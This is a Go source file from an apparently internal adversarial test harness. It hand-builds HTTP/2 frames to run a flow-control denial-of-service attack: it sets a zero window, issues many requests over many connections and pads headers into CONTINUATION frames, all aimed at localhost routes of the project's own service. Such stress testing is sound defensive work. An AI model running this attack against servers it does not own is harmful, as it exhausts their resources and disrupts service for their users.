package attack

import (
	"encoding/binary"
	"strings"
)

// The parts of HTTP/2 (RFC 9113) that the attack needs.
const (
	preface        = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	frameHeaders   = 1
	frameSettings  = 4
	frameMore      = 9 // CONTINUATION
	flagEndStream  = 1
	flagEndHeaders = 4
	settingWindow  = 4
	mostFrame      = 16 << 10
)

func appendFrame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// appendField appends a header field in HPACK as a literal without indexing, which
// needs no state (RFC 7541, section 6.2.2).
func appendField(b []byte, name, value string) []byte {
	b = append(b, 0)
	for _, s := range []string{name, value} {
		b = appendLength(b, len(s))
		b = append(b, s...)
	}
	return b
}

// appendLength appends an integer with a 7-bit prefix (RFC 7541, section 5.1).
func appendLength(b []byte, n int) []byte {
	if n < 127 {
		return append(b, byte(n))
	}
	b = append(b, 127)
	return binary.AppendUvarint(b, uint64(n-127))
}

// windowTargets are routes with a non-empty answer.
var windowTargets = []string{
	"/v0/topics/" + large + "/diff?limit=1000&max_batch_bytes=8388608",
	"/v0/openapi.json", "/v0/topics?page_size=1000", "/v0/metrics", "/v0/topics/" + large, "/health", "/v0/ready",
	"/v0/recovery", "/v0/whoami", "/v0/routers", "/", "/actuator/info", "/v0/none",
	"/v0/topics/" + large + "/diff?wait_ms=30000&from_seq=1000000",
}

// closedWindows requests every route over HTTP/2 with a flow control window of 0,
// so that no byte of an answer can be sent.
func closedWindows(conns, header int) func(*foe) {
	return func(f *foe) {
		out := []byte(preface)
		out = appendFrame(out, frameSettings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, settingWindow}, 0))
		out = appendFrame(out, frameSettings, 1, 0, nil) // acknowledge the server's settings
		for i := range 100 {
			out = appendRequest(out, uint32(2*i+1), windowTargets[i%len(windowTargets)], header)
		}
		f.crowd(conns, func(int) { f.stall(out) })
	}
}

func appendRequest(b []byte, stream uint32, target string, header int) []byte {
	var block []byte
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "http"}, {":authority", "127.0.0.1"}, {":path", target},
		{"authorization", "Bearer " + hostileKey}, {"x-much", strings.Repeat("m", header)},
	} {
		block = appendField(block, field[0], field[1])
	}
	typ, flags := byte(frameHeaders), byte(flagEndStream)
	for len(block) > mostFrame {
		b = appendFrame(b, typ, flags, stream, block[:mostFrame])
		block, typ, flags = block[mostFrame:], frameMore, 0
	}
	return appendFrame(b, typ, flags|flagEndHeaders, stream, block)
}
